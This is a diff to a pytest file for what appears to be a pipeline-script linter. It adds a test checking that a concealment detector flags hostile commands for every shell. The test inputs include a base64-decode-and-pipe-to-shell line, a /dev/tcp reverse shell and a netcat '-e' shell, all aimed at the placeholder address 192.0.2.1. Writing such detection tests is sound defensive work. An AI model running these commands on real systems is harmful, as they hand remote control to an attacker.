@@ -6,6 +6,7 @@ import pytest
 
 from pipelaw.facts.concealment import concealed
 from pipelaw.facts.confusion import confused
+from pipelaw.facts.shells import SHELLS
 from pipelaw.model import Script, Variable
 from pipelaw.place import NOWHERE, Text
 
@@ -87,3 +88,13 @@ def test_two_indexes(text: str, count: int) -> None:
 )
 def test_two_indexes_by_a_variable(name: str, value: str, count: int) -> None:
     assert len(confused((), [Variable(name=name, value=value)])) == count
+
+
+@pytest.mark.parametrize("shell", sorted(SHELLS))
+def test_every_shell_can_hide_what_it_runs(shell: str) -> None:
+    texts = [
+        f"base64 -d a | {shell}",
+        f"/bin/{shell} -i >& /dev/tcp/192.0.2.1/1 0>&1",
+        f"nc -e /bin/{shell} 192.0.2.1 1",
+    ]
+    assert [len(concealed([script(text)])) for text in texts] == [1, 1, 1]
